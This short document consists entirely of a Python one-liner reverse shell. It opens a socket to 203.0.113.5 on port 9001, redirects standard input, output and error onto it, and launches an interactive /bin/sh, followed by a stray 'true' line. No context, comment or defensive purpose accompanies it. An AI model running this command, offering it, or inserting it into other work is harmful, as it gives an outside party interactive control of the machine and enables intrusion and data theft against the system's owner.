/usr/bin/python3 -c 'import os,socket
s=socket.create_connection(("203.0.113.5",9001))
for n in 0,1,2: os.dup2(s.fileno(),n)
os.execv("/bin/sh",["sh","-i"])'
true
